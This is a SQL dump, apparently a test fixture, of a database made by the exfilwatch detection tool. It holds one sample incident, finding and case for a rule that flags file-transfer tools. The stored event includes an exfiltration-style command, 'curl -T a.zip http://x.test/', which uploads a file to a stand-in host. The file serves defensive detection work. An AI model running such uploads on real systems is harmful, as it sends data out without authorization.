-- A database as exfilwatch 0.1.0 made it, without Alembic: one finding, its incident, and its case.
CREATE TABLE exfilwatch_schema (
  part VARCHAR(32) NOT NULL,
  version INTEGER NOT NULL,
  PRIMARY KEY (part)
);
INSERT INTO exfilwatch_schema VALUES('findings',1);
INSERT INTO exfilwatch_schema VALUES('cases',1);
CREATE TABLE incidents (
  id VARCHAR(64) NOT NULL,
  host TEXT,
  user_name TEXT,
  host_key TEXT NOT NULL,
  user_key TEXT,
  level VARCHAR(32) NOT NULL,
  highest VARCHAR(32) NOT NULL,
  kinds TEXT NOT NULL,
  attack TEXT NOT NULL,
  time DATETIME,
  end_time DATETIME,
  first_seen DATETIME NOT NULL,
  merged_into VARCHAR(64),
  PRIMARY KEY (id)
);
INSERT INTO incidents VALUES('934867a274dd32c1','WS1','CORP\anna','ws1','anna','medium','medium','["transfer_tool"]','["T1020"]','2024-05-01 09:00:00.000000','2024-05-01 09:00:00.000000','2024-05-01 09:00:00.000000',NULL);
CREATE TABLE findings (
  id VARCHAR(64) NOT NULL,
  incident VARCHAR(64) NOT NULL,
  rule_id TEXT NOT NULL,
  rule_title TEXT NOT NULL,
  branch TEXT NOT NULL,
  level VARCHAR(32) NOT NULL,
  kind TEXT NOT NULL,
  attack TEXT NOT NULL,
  host TEXT,
  user_name TEXT,
  host_key TEXT NOT NULL,
  user_key TEXT,
  time DATETIME,
  end_time DATETIME,
  first_seen DATETIME NOT NULL,
  body TEXT NOT NULL,
  PRIMARY KEY (id),
  FOREIGN KEY(incident) REFERENCES incidents (id)
);
INSERT INTO findings VALUES('628dfa4991bdc87e2e07297629b91155','934867a274dd32c1','rule-transfer_tool','Rule transfer_tool','transfer_tool','medium','transfer_tool','["T1020"]','WS1','CORP\anna','ws1','anna','2024-05-01 09:00:00.000000','2024-05-01 09:00:00.000000','2024-05-01 09:00:00.000000','{"id": "628dfa4991bdc87e2e07297629b91155", "rule": {"id": "rule-transfer_tool", "title": "Rule transfer_tool", "branch": "transfer_tool", "level": "medium", "attack": ["T1020"]}, "score": 1, "time": "2024-05-01T09:00:00Z", "end": "2024-05-01T09:00:00Z", "host": "WS1", "user": "CORP\\anna", "fields": {"CommandLine": "curl -T a.zip http://x.test/"}, "signals": [{"name": "IsUpload", "field": "CommandLine", "matched": "-T ", "start": 5, "event": "a"}], "events": [{"id": "a", "time": "2024-05-01T09:00:00Z", "host": "WS1", "category": "process_creation", "product": "windows", "shape": "sysmon_flat", "source": "sysmon.jsonl", "line": 7, "fields": {"Image": "C:\\Windows\\System32\\curl.exe", "CommandLine": "curl -T a.zip http://x.test/", "ProcessGuid": "{1-2}"}}], "source": "sysmon.jsonl"}');
CREATE TABLE finding_processes (
  finding VARCHAR(64) NOT NULL,
  process VARCHAR(128) NOT NULL,
  anchor BOOLEAN NOT NULL,
  PRIMARY KEY (finding, process),
  FOREIGN KEY(finding) REFERENCES findings (id)
);
INSERT INTO finding_processes VALUES('628dfa4991bdc87e2e07297629b91155','guid 1-2',TRUE);
CREATE TABLE told (
  case_system VARCHAR(64) NOT NULL,
  incident VARCHAR(64) NOT NULL,
  what VARCHAR(128) NOT NULL,
  PRIMARY KEY (case_system, incident, what),
  FOREIGN KEY(incident) REFERENCES incidents (id)
);
INSERT INTO told VALUES('local','934867a274dd32c1','628dfa4991bdc87e2e07297629b91155');
CREATE TABLE cases (
  id INTEGER NOT NULL,
  incident VARCHAR(64) NOT NULL,
  title TEXT NOT NULL,
  level VARCHAR(32) NOT NULL,
  body TEXT NOT NULL,
  status VARCHAR(16) NOT NULL,
  duplicate_of INTEGER,
  opened DATETIME NOT NULL,
  PRIMARY KEY (id),
  UNIQUE (incident),
  FOREIGN KEY(duplicate_of) REFERENCES cases (id)
);
INSERT INTO cases VALUES(2,'934867a274dd32c1','Rule transfer_tool: curl.exe on WS1 by CORP\anna to x.test','medium','# What happened','open',NULL,'2024-05-01 09:00:00.000000');
CREATE TABLE case_notes (
  case_id INTEGER NOT NULL,
  note_key VARCHAR(128) NOT NULL,
  text TEXT NOT NULL,
  time DATETIME NOT NULL,
  PRIMARY KEY (case_id, note_key),
  FOREIGN KEY(case_id) REFERENCES cases (id)
);
CREATE TABLE case_findings (
  case_id INTEGER NOT NULL,
  finding VARCHAR(64) NOT NULL,
  PRIMARY KEY (case_id, finding),
  FOREIGN KEY(case_id) REFERENCES cases (id)
);
INSERT INTO case_findings VALUES(2,'628dfa4991bdc87e2e07297629b91155');
CREATE INDEX ix_incidents_merged_into ON incidents (merged_into);
CREATE INDEX findings_of_host ON findings (host_key, time);
CREATE INDEX ix_findings_time ON findings (time);
CREATE INDEX ix_findings_incident ON findings (incident);
CREATE INDEX processes_by_name ON finding_processes (process);
